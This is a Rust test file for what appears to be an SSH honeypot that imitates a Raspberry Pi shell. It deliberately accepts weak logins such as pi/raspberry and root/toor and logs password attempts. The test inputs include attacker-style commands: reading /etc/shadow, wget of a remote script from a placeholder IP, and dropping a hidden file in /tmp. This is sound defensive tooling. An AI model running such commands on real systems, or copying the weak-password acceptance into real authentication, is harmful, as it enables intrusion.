//! The shipped config, snapshot and coreutils plugin driven through the shell.

use std::path::PathBuf;
use std::sync::Arc;

use wana_kernel::{Host, Session};
use wana_server::{CaptureDb, CaptureSink, PasswordAttempt, ServerConfig, Shell, load_server_config};

fn assets() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../assets")
}

fn config() -> ServerConfig {
    let mut config =
        load_server_config(include_str!("../../../assets/defaults/wana.rhai")).unwrap();
    config.plugins = assets().join("plugins");
    config.snapshot = assets().join("snapshots/minimal.json");
    config
}

fn host() -> Arc<Host> {
    Arc::new(config().build_host().unwrap())
}

#[test]
fn test_bundled_host_builds() {
    let host = host();
    assert_eq!(host.hostname(), "raspberrypi");
    assert_eq!(host.registry().path_of("ls").as_deref(), Some("/bin/ls"));
    assert_eq!(host.registry().path_of("whoami").as_deref(), Some("/usr/bin/whoami"));
    assert!(host.hooks().has_password_intercepts());
}

#[test]
fn test_weak_passwords_accepted() {
    let host = host();
    let hooks = host.hooks();
    assert!(hooks.check_password("pi", "raspberry", "198.51.100.4"));
    assert!(hooks.check_password("root", "toor", "198.51.100.4"));
    assert!(!hooks.check_password("root", "correct horse battery staple", "198.51.100.4"));
    assert!(!hooks.check_password("nobody", "123456", "198.51.100.4"));
}

#[test]
fn test_broken_plugin_dir_is_fatal() {
    let tmp = tempfile::tempdir().unwrap();
    std::fs::create_dir(tmp.path().join("empty")).unwrap();

    let mut config = config();
    config.plugins = tmp.path().to_path_buf();
    assert!(config.build_host().is_err());

    let mut config = self::config();
    config.snapshot = tmp.path().join("missing.json");
    assert!(config.build_host().is_err());
}

#[tokio::test]
async fn test_interactive_session() {
    let session = Session::new(host(), "pi", "198.51.100.4");
    let mut shell = Shell::new(session, true);

    let greeting = shell.greeting().await;
    assert!(greeting.starts_with("Linux raspberrypi 4.14.98-v7+"), "{greeting}");
    assert!(greeting.contains("ABSOLUTELY NO WARRANTY"));
    assert!(greeting.contains("from 198.51.100.4\r\n"));
    assert!(greeting.ends_with("pi@raspberrypi:~$ "));
    assert!(!greeting.contains("\n\n"), "bare newlines must become CRLF");

    let out = shell.feed(b"cd /tmp\r").await;
    assert_eq!(out.text, "cd /tmp\r\npi@raspberrypi:/tmp$ ");

    let out = shell.feed(b"pwd\r").await;
    assert_eq!(out.text, "pwd\r\n/tmp\r\npi@raspberrypi:/tmp$ ");

    let out = shell.feed(b"cat /etc/shadow\r").await;
    assert_eq!(
        out.text,
        "cat /etc/shadow\r\ncat: /etc/shadow: Permission denied\r\npi@raspberrypi:/tmp$ "
    );

    let out = shell.feed(b"wget http://203.0.113.50/x.sh\r").await;
    assert!(out.text.contains("wget http://203.0.113.50/x.sh: command not found\r\n"));

    assert_eq!(shell.feed(b"una\t").await.text, "uname ");
    let out = shell.feed(b"-n\r").await;
    assert_eq!(out.text, "-n\r\nraspberrypi\r\npi@raspberrypi:/tmp$ ");

    let out = shell.feed(b"exit\r").await;
    assert!(out.close);
    assert_eq!(
        shell.session().history(),
        vec!["cd /tmp", "pwd", "cat /etc/shadow", "wget http://203.0.113.50/x.sh", "uname -n", "exit"]
    );
}

#[tokio::test]
async fn test_sessions_share_one_filesystem() {
    let host = host();

    let mut first = Shell::new(Session::new(host.clone(), "pi", "198.51.100.4"), false);
    first.feed(b"touch /tmp/.dropper\n").await;

    let mut second = Shell::new(Session::new(host, "admin", "198.51.100.5"), false);
    let out = second.feed(b"ls -a /tmp\n").await;
    assert!(out.text.contains(".dropper"), "{}", out.text);
}

#[test]
fn test_capture_file_survives_restart() {
    let tmp = tempfile::tempdir().unwrap();
    let mut config = config();
    config.database = tmp.path().join("capture.db");

    {
        let db = CaptureDb::open(&config.database).unwrap();
        db.record_password(&PasswordAttempt::new("198.51.100.4", "root", "admin"))
            .unwrap();
    }
    let db = CaptureDb::open(&config.database).unwrap();
    let rows = db.list_passwords(5).unwrap();
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0].attempt.username, "root");
}
